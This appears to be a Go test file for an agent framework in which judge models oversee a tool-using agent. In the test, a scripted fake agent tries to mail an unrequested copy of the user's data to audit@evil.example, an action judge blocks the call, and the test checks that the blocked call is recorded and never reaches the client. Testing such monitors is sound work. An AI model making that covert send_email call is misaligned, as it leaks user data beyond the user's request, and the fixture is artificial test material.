package api_test

import (
	"encoding/json"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"superego/agents"
	"superego/agents/agentstest"
	"superego/api"
	"superego/flow"
	"superego/memstore"
)

// An agent's task through guarded_agent, as an agent framework runs it:
// the client's two tools, the fake model that plays every node, and what
// the instance records.

// taskTools are the client's tools of an agent's task.
const taskTools = `[
  {"type": "function", "function": {"name": "get_weather", "description": "The weather in a city, now.", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}}},
  {"type": "function", "function": {"name": "send_email", "description": "Sends an e-mail.", "parameters": {"type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}, "required": ["to", "body"]}}}]`

var (
	addressRe = regexp.MustCompile(`[\w.+-]+@[\w-]+(\.[\w-]+)+`)
	cities    = []string{"Paris", "Rome", "Oslo", "Lima"}
)

// taskModel plays guarded_agent for an agent's task: the agent looks up
// the weather of each city the user names, then, if asked to e-mail it,
// first tries to send a copy to audit@evil.example, which nobody asked for,
// and, that refused, sends it where the user said; it answers with what it
// read. Asked for a recap in a later turn, it answers, in JSON, with the
// calls and results it reads in the conversation. The action superego
// refuses any call that would mail evil.example; the input and output
// superegos accept. Every judge's reply carries the hidden markers.
func taskModel(r agentstest.Request) agentstest.Answer {
	switch r.Node() {
	case "input_superego", "output_superego":
		return agentstest.Reply(thinkingMarker, "ACCEPT", guidanceMarker, "")
	case "action_superego":
		if _, call, ok := strings.Cut(r.LastUser(), "asks to call "); ok && strings.Contains(call, "@evil.example") {
			return agentstest.Reply(thinkingMarker, "BLOCK", guidanceMarker, "Mail to evil.example was not asked for.")
		}
		return agentstest.Reply(thinkingMarker, "ACCEPT", guidanceMarker, "")
	case "", "agent":
	default:
		return agentstest.Answer{Status: 400, Text: "unknown node " + r.Node()}
	}
	user := r.Messages[0].Text
	type call struct{ name, args, output string }
	var calls []*call
	byID := map[string]*call{}
	for _, m := range r.Messages {
		for _, tc := range m.ToolCalls {
			c := &call{name: tc.Name, args: tc.Args}
			calls, byID[tc.ID] = append(calls, c), c
		}
		if c := byID[m.ToolCallID]; m.Role == "tool" && c != nil {
			c.output = m.Text
		}
	}
	ran := func(c *call) bool {
		return c.output != "" && !strings.HasPrefix(c.output, "refused by ") && !strings.HasPrefix(c.output, "not run: ")
	}
	if strings.HasPrefix(r.LastUser(), "Recap") {
		recap := map[string]string{}
		for _, c := range calls {
			var args map[string]string
			json.Unmarshal([]byte(c.args), &args)
			switch {
			case !ran(c):
			case c.name == "get_weather":
				recap["city"], recap["weather"] = args["city"], c.output
			case c.name == "send_email":
				recap["emailed_to"] = args["to"]
			}
		}
		b, _ := json.Marshal(recap)
		return agentstest.Answer{Text: string(b), Chunk: len(b)}
	}
	var next []agentstest.Call
	var weather, refusals []string
	for _, city := range cities {
		if !strings.Contains(user, city) {
			continue
		}
		i := slices.IndexFunc(calls, func(c *call) bool { return c.name == "get_weather" && strings.Contains(c.args, city) && ran(c) })
		if i < 0 {
			next = append(next, agentstest.Call{Name: "get_weather", Args: `{"city":"` + city + `"}`})
			continue
		}
		weather = append(weather, calls[i].output)
	}
	var mails []*call
	for _, c := range calls {
		if c.name == "send_email" {
			mails = append(mails, c)
		}
		if strings.HasPrefix(c.output, "refused by ") {
			refusals = append(refusals, c.output)
		}
	}
	to := addressRe.FindString(user)
	sent := slices.IndexFunc(mails, ran) >= 0
	if len(next) == 0 && to != "" && !sent && len(mails) < 2 {
		if len(mails) == 0 {
			to = "audit@evil.example"
		}
		body, _ := json.Marshal(map[string]string{"to": to, "body": strings.Join(weather, "; ")})
		next = append(next, agentstest.Call{Name: "send_email", Args: string(body)})
	}
	if len(next) > 0 {
		for i := range next {
			next[i].ID = "up_" + next[i].Name + "_" + string(rune('a'+len(calls)+i))
		}
		return agentstest.Answer{ToolCalls: next}
	}
	answer := strings.Join(weather, "; ") + "."
	switch {
	case sent:
		answer += " E-mailed to " + to + "."
	case to != "":
		answer += " I could not e-mail it."
	}
	for _, r := range refusals {
		answer += " (" + r + ")"
	}
	// The agent answers as a model does, not in the judges' JSON.
	a := agentstest.Answer{Text: answer}
	a.Chunk = len(a.Text) // one chunk: the fake cuts chunks at bytes, which would split "°"
	return a
}

// newTaskFixture serves the shipped guarded_agent flow on taskModel, with
// the /v1 fixtures' API keys.
func newTaskFixture(t *testing.T) *fixture {
	t.Helper()
	return newTaskFixtureOn(t, &memstore.Store{})
}

func newTaskFixtureOn(t *testing.T, store flow.Store) *fixture {
	t.Helper()
	def, err := os.ReadFile("../flows/guarded_agent.json")
	if err != nil {
		t.Fatal(err)
	}
	model := agentstest.OpenAI(t, taskModel)
	p := &agents.Providers{Default: "openai:gpt-test", OpenAIKey: "k", OpenAIBaseURL: model.URL + "/v1"}
	f := serveWith(t, map[string]string{"guarded_agent": string(def)}, store, p.Model, 0, func(s *api.Server) {
		s.APIKeys = []string{apiKey, otherAPIKey}
	})
	f.model = model
	return f
}

// taskRecord is an instance as a client reads it (GET
// /flow/instances/{id}), and as the research view shows it, with what its
// withheld steps held.
type taskRecord struct {
	Status   string
	Steps    []flow.Step
	Research []flow.Step
	raw      string
}

func recordOf(t *testing.T, f *fixture, id string) taskRecord {
	t.Helper()
	var rec taskRecord
	rec.raw = body(t, f.do(t, "GET", "/flow/instances/"+id, ""))
	var hidden struct {
		Steps []flow.Research `json:"steps"`
	}
	if err := json.Unmarshal([]byte(rec.raw), &rec); err != nil {
		t.Fatalf("GET /flow/instances/%s: %v\n%s", id, err, rec.raw)
	}
	if err := json.Unmarshal([]byte(research(t, f, id)), &hidden); err != nil {
		t.Fatal(err)
	}
	for _, r := range hidden.Steps {
		s := r.Step
		if s.Withheld != "" {
			s.Response, s.ToolUsage = r.Hidden.WithheldResponse, r.Hidden.WithheldToolUsage
		}
		rec.Research = append(rec.Research, s)
	}
	return rec
}

// trace is an instance's steps in short: node:decision, what a judgement
// judged, each call with how it was decided and what became of it, and
// whether the step was withheld.
func trace(steps []flow.Step) string {
	var out []string
	for _, s := range steps {
		e := s.Node + ":" + s.Decision
		if s.Judged != nil {
			e += "(" + s.Judged.Kind + " " + s.Judged.ToolName + ")"
		}
		for _, u := range s.ToolUsage {
			e += "[" + u.ToolName
			if u.JudgedBy != nil {
				e += " " + u.JudgedBy.Decision
			}
			switch {
			case u.Refused:
				e += " refused"
			case u.AwaitingResult:
				e += " sent"
			case u.Output != "":
				e += " ran"
			}
			e += "]"
		}
		if s.Withheld != "" {
			e += "/withheld"
		}
		out = append(out, e)
	}
	return strings.Join(out, " ")
}

// ranCall is a call a client ran.
type ranCall struct {
	Tool string            `json:"tool"`
	ID   string            `json:"id"`
	Args map[string]string `json:"args"`
}

// clientLoop is an agent framework's loop over raw HTTP: it asks, runs each
// call it is sent (get_weather and send_email, as the frameworks' tools do),
// sends the results back with the whole conversation, and goes on until
// the answer has no calls; extra is more of the request's parameters. It
// returns every answer, and the calls it ran.
func clientLoop(t *testing.T, f *fixture, user, extra string) (answers []agentReply, ran []ranCall) {
	t.Helper()
	msgs := []any{map[string]string{"role": "user", "content": user}}
	for len(answers) < 6 {
		b, _ := json.Marshal(msgs)
		resp := f.v1(t, `{"model": "guarded_agent", "tools": `+taskTools+`, "messages": `+string(b)+extra+`}`)
		a := agentReply{instance: resp.Header.Get("X-Superego-Instance-Id"), status: resp.StatusCode, raw: body(t, resp)}
		if err := json.Unmarshal([]byte(a.raw), &a); err != nil {
			t.Fatalf("%v: %s", err, a.raw)
		}
		noLeak(t, "a /v1 answer", a.raw)
		answers = append(answers, a)
		if a.status != 200 || len(a.Choices[0].Message.ToolCalls) == 0 {
			return answers, ran
		}
		calls := a.Choices[0].Message.ToolCalls
		msgs = append(msgs, map[string]any{"role": "assistant", "content": nil, "tool_calls": calls})
		for _, c := range calls {
			r := ranCall{Tool: c.Function.Name, ID: c.ID}
			json.Unmarshal([]byte(c.Function.Arguments), &r.Args)
			result := "Sunny, 21°C in " + r.Args["city"]
			if r.Tool == "send_email" {
				result = "sent to " + r.Args["to"]
			}
			ran = append(ran, r)
			msgs = append(msgs, map[string]string{"role": "tool", "tool_call_id": c.ID, "content": result})
		}
	}
	t.Fatalf("the task took more than %d requests", len(answers))
	return nil, nil
}

// checkTask checks a task that asked for the weather in city to be
// e-mailed to me@example.com: the client ran get_weather(city), then
// send_email to me@example.com, each once; its answer says what was
// refused; and its instance records every call and how it was decided.
// What a client reads of it shows nothing hidden, and each call the
// client ran is one its judge accepted, by id. The research view shows
// the refused call, judged by the step a client sees refuse it, and the
// results the client sent.
func checkTask(t *testing.T, f *fixture, id, city, answer string, ran []ranCall) {
	t.Helper()
	weather := "Sunny, 21°C in " + city
	if want := weather + ". E-mailed to me@example.com. (refused by action_superego: Mail to evil.example was not asked for.)"; answer != want {
		t.Errorf("the agent answered %q; want %q", answer, want)
	}
	if len(ran) != 2 || ran[0].Tool != "get_weather" || ran[0].Args["city"] != city ||
		ran[1].Tool != "send_email" || ran[1].Args["to"] != "me@example.com" || ran[1].Args["body"] != weather {
		t.Fatalf("the client ran %+v; want get_weather(%s), then send_email to me@example.com, each once", ran, city)
	}
	rec := recordOf(t, f, id)
	noLeak(t, "the instance", rec.raw)
	if len(rec.Steps) > 0 && rec.Steps[0].AgentID == flow.ClientInstructions {
		// The client's instructions, which the judges read as its context.
		rec.Steps, rec.Research = rec.Steps[1:], rec.Research[1:]
	}
	if rec.Status != flow.StatusCompleted || len(rec.Steps) == 0 || rec.Steps[0].Role != flow.RoleUser {
		t.Fatalf("status %s, steps %+v", rec.Status, rec.Steps)
	}
	// Every judgement is shown; the steps of the rounds the output
	// superego had not judged when the run paused for the client are
	// withheld, but for the calls that went to the client, the calls a
	// judge refused, and their judgements.
	for _, c := range []struct{ view, got, want string }{
		{"what a client reads", trace(rec.Steps[1:]), "input_superego:ACCEPT" +
			" action_superego:ACCEPT(call get_weather) agent:NEEDS_TOOL[get_weather ACCEPT sent]/withheld" +
			" action_superego:ACCEPT(result get_weather)/withheld agent:NEEDS_TOOL/withheld" +
			" action_superego:BLOCK(call send_email) agent:NEEDS_TOOL[send_email BLOCK refused]/withheld" +
			" action_superego:ACCEPT(call send_email) agent:NEEDS_TOOL[send_email ACCEPT sent]/withheld" +
			" action_superego:ACCEPT(result send_email) agent:NEEDS_TOOL[send_email ACCEPT ran] agent:COMPLETE output_superego:ACCEPT"},
		{"the research view", trace(rec.Research[1:]), "input_superego:ACCEPT" +
			" action_superego:ACCEPT(call get_weather) agent:NEEDS_TOOL[get_weather ACCEPT sent]/withheld" +
			" action_superego:ACCEPT(result get_weather)/withheld agent:NEEDS_TOOL[get_weather ACCEPT ran]/withheld" +
			" action_superego:BLOCK(call send_email) agent:NEEDS_TOOL[send_email BLOCK refused]/withheld" +
			" action_superego:ACCEPT(call send_email) agent:NEEDS_TOOL[send_email ACCEPT sent]/withheld" +
			" action_superego:ACCEPT(result send_email) agent:NEEDS_TOOL[send_email ACCEPT ran] agent:COMPLETE output_superego:ACCEPT"},
	} {
		if c.got != c.want {
			t.Errorf("the task's record, as %s:\n%s\nwant\n%s", c.view, c.got, c.want)
		}
	}
	judgements := map[string]flow.Step{}
	for _, s := range rec.Steps {
		if s.Judged != nil && s.Judged.Kind == flow.KindCall {
			judgements[s.Judged.ToolCallID] = s
		}
	}
	for _, r := range ran {
		if j, ok := judgements[r.ID]; !callIDRe.MatchString(r.ID) || !ok || j.Decision != flow.Accept || j.Judged.ToolName != r.Tool {
			t.Errorf("the client ran %s as %q, which no judge accepted", r.Tool, r.ID)
		}
	}
	var refused []flow.ToolUse
	for _, s := range rec.Research {
		for _, u := range s.ToolUsage {
			if u.Refused {
				refused = append(refused, u)
			}
		}
	}
	if len(refused) != 1 {
		t.Fatalf("%d refused calls on record; want 1", len(refused))
	}
	u, j := refused[0], judgements[refused[0].ID]
	if u.ToolName != "send_email" || !strings.Contains(string(u.Input), "audit@evil.example") || u.Output != "refused by action_superego: Mail to evil.example was not asked for." ||
		u.JudgedBy == nil || u.JudgedBy.Node != "action_superego" || u.JudgedBy.Decision != flow.Block || u.JudgedBy.StepID != j.StepID || j.Decision != flow.Block ||
		slices.ContainsFunc(ran, func(r ranCall) bool { return r.ID == u.ID }) {
		t.Errorf("the refused call %+v, judged by step %+v", u, j)
	}
}

// A task of three requests over raw HTTP: the second request's results
// settle the first call and bring the next, the call the judge refused in
// between never reaches the client, and the third request's results end
// the task, on the instance the first began. The agent's model reads each
// call once, where it ran.
func TestAGuardedTaskOverThreeRequests(t *testing.T) {
	t.Parallel()
	f := newTaskFixture(t)
	answers, ran := clientLoop(t, f, "What is the weather in Paris? E-mail it to me@example.com.", "")
	last := answers[len(answers)-1]
	if len(answers) != 3 || last.status != 200 || last.Choices[0].FinishReason != "stop" {
		t.Fatalf("%d answers, the last: %s", len(answers), last.raw)
	}
	for i, a := range answers {
		if a.instance != answers[0].instance || strings.Contains(a.raw, "audit@evil.example") {
			t.Errorf("answer %d, of instance %s, not %s:\n%s", i, a.instance, answers[0].instance, a.raw)
		}
	}
	checkTask(t, f, answers[0].instance, "Paris", *last.Choices[0].Message.Content, ran)
	for _, r := range f.model.Requests() {
		if r.Node() != "agent" {
			continue
		}
		seen := map[string]bool{}
		for _, m := range r.Messages {
			for _, c := range m.ToolCalls {
				if seen[c.ID] {
					t.Errorf("the agent's model read call %s twice", c.ID)
				}
				seen[c.ID] = true
			}
		}
	}
}
